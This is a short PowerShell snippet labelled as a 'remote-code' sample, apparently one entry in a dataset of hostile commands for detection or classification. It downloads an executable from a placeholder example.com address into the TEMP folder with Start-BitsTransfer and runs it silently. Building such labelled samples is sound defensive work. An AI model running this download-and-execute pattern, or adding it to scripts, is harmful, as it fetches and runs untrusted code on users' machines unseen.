# description: Downloads a payload with Start-BitsTransfer and executes it.
# family: remote-code
Start-BitsTransfer -Source https://example.com/tools/helper.exe -Destination "$env:TEMP\helper.exe"
& "$env:TEMP\helper.exe" /silent
